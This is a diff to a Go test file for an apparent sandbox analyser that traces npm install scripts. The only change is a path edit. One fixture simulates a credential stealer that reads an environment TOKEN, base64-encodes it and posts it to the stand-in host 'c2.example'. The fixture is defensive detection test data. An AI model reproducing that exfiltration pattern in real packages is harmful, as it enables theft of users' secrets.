@@ -20,7 +20,7 @@ func build(t *testing.T, events ...sandbox.Event) (*callseq.Trace, []Doubt) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	b := NewBuilder(base, Options{Phase: callseq.PhaseInstall, Entry: "scripts.postinstall", Root: "/work/pkg"})
+	b := NewBuilder(base, Options{Phase: callseq.PhaseInstall, Entry: "scripts.postinstall", Root: "/app/pkg"})
 	for _, e := range events {
 		b.Add(e)
 	}
@@ -46,12 +46,12 @@ func stealer() []sandbox.Event {
 	return []sandbox.Event{
 		execed(10, 1, "node", "index.js"),
 		line(1, `"k":"start","pp":1,"argv":["node","index.js"]`),
-		line(2, `"k":"get","api":"process.env","id":1,"a":["TOKEN"],"v":{"s":"`+token+`","h":"`+digest+`"},"at":["/work/pkg/index.js",3,1]`),
-		line(3, `"k":"call","api":"Buffer.from","id":2,"a":[{"s":"`+token+`","h":"`+digest+`"}],"at":["/work/pkg/index.js",4,1]`),
-		line(4, `"k":"call","api":"btoa","id":3,"a":[{"s":"`+token+`","h":"`+digest+`"}],"at":["/work/pkg/index.js",5,1]`),
+		line(2, `"k":"get","api":"process.env","id":1,"a":["TOKEN"],"v":{"s":"`+token+`","h":"`+digest+`"},"at":["/app/pkg/index.js",3,1]`),
+		line(3, `"k":"call","api":"Buffer.from","id":2,"a":[{"s":"`+token+`","h":"`+digest+`"}],"at":["/app/pkg/index.js",4,1]`),
+		line(4, `"k":"call","api":"btoa","id":3,"a":[{"s":"`+token+`","h":"`+digest+`"}],"at":["/app/pkg/index.js",5,1]`),
 		line(5, `"k":"result","of":3,"on":"return","v":{"s":"`+encoded+`","h":"`+hooks.Digest([]byte(encoded))+`"}`),
-		line(6, `"k":"call","api":"https.request","id":4,"a":[{"o":[["host","c2.example"]]}],"at":["/work/pkg/index.js",6,1]`),
-		line(7, `"k":"call","api":"http.ClientRequest.write","id":5,"r":4,"c":4,"a":[{"s":"t=`+encoded+`","h":"00"}],"at":["/work/pkg/index.js",7,1]`),
+		line(6, `"k":"call","api":"https.request","id":4,"a":[{"o":[["host","c2.example"]]}],"at":["/app/pkg/index.js",6,1]`),
+		line(7, `"k":"call","api":"http.ClientRequest.write","id":5,"r":4,"c":4,"a":[{"s":"t=`+encoded+`","h":"00"}],"at":["/app/pkg/index.js",7,1]`),
 		line(8, `"k":"end","x":0`),
 	}
 }
@@ -85,12 +85,12 @@ func TestProcessesAndCode(t *testing.T) {
 	tr, doubts := build(t,
 		execed(10, 1, "node", "index.js"),
 		line(1, `"k":"start","pp":1,"argv":["node"]`),
-		line(2, `"k":"code","how":"Function","h":"abc","v":{"s":"made code","h":"1"},"at":["/work/pkg/index.js",1,1]`),
+		line(2, `"k":"code","how":"Function","h":"abc","v":{"s":"made code","h":"1"},"at":["/app/pkg/index.js",1,1]`),
 		line(3, `"k":"call","api":"child_process.spawn","id":1,"a":["node"],"at":["#abc",1,1]`),
 		line(4, `"k":"result","of":1,"on":"pid","v":11`),
 		execed(11, 10, "node", "child.js"),
 		lineOf(11, 1, `"k":"start","pp":10,"argv":["node","child.js"]`),
-		lineOf(11, 2, `"k":"call","api":"fs.existsSync","id":1,"a":["/x"],"at":["/work/pkg/child.js",1,1]`),
+		lineOf(11, 2, `"k":"call","api":"fs.existsSync","id":1,"a":["/x"],"at":["/app/pkg/child.js",1,1]`),
 	)
 	if len(doubts) > 0 {
 		t.Errorf("doubts %v", doubts)
